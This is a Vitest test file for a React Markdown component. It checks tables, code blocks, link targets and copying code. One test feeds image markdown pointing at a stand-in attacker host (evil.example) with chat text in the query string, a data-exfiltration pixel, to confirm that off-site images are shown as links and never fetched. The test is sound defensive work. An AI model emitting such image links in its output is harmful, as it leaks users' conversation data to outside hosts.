// @vitest-environment happy-dom
import { cleanup, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, expect, test, vi } from "vitest";
import { renderScreen } from "../../testing/render";
import { Markdown } from "./Markdown";

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

const answer = `Here is **the plan**:

| Scene | Seconds |
| --- | --- |
| Title | 3 |
| Offer | 4 |

\`\`\`ts
const total = 3 + 4;
\`\`\`

Open [your draft](/content/v1/edit) or [the docs](https://example.com/docs). Use \`npm start\`.

![A meadow](/api/v1/assets/a1/file)
`;

test("shows tables, code blocks with their language, inline code, images and links", () => {
  renderScreen(<Markdown text={answer} />);
  expect(screen.getByText("the plan").tagName).toBe("STRONG");
  const table = screen.getByRole("table");
  expect(
    within(table)
      .getAllByRole("row")
      .map((row) => row.textContent),
  ).toEqual(["SceneSeconds", "Title3", "Offer4"]);
  const block = screen.getByTestId("code-block");
  expect(within(block).getByText("ts")).toBeTruthy();
  expect(within(block).getByText("const total = 3 + 4;")).toBeTruthy();
  expect(screen.getByText("npm start").tagName).toBe("CODE");
  expect(screen.getByRole("img", { name: "A meadow" }).getAttribute("src")).toBe("/api/v1/assets/a1/file");
  // The product's own paths stay in the app; others open in a new tab.
  expect(screen.getByRole("link", { name: "your draft" }).getAttribute("target")).toBeNull();
  expect(screen.getByRole("link", { name: "your draft" }).getAttribute("href")).toBe("/content/v1/edit");
  expect(screen.getByRole("link", { name: "the docs" }).getAttribute("target")).toBe("_blank");
});

test("loads only the product's own pictures: another site's is a link naming it, never fetched", () => {
  renderScreen(
    <Markdown
      text={[
        "![Leak](https://evil.example/pixel.png?chat=my%20salary)",
        "![](//evil.example/p.png)",
        "![Ours](/api/v1/assets/a1/file)",
        `![Same origin](${location.origin}/api/v1/assets/a2/file)`,
      ].join("\n\n")}
    />,
  );
  expect(screen.getAllByRole("img").map((image) => image.getAttribute("src"))).toEqual([
    "/api/v1/assets/a1/file",
    `${location.origin}/api/v1/assets/a2/file`,
  ]);
  const link = screen.getByRole("link", { name: "Leak (from evil.example, not loaded)" });
  expect(link.getAttribute("href")).toBe("https://evil.example/pixel.png?chat=my%20salary");
  expect(link.getAttribute("target")).toBe("_blank");
  expect(screen.getByRole("link", { name: "A picture (from evil.example, not loaded)" }).getAttribute("href")).toBe(
    "http://evil.example/p.png",
  );
});

test("copies a code block", async () => {
  const writeText = vi.fn(() => Promise.resolve());
  vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
  renderScreen(<Markdown text={"```\necho hello\n```"} />);
  await userEvent.click(screen.getByRole("button", { name: "Copy code" }));
  expect(writeText).toHaveBeenCalledWith("echo hello");
  expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
});
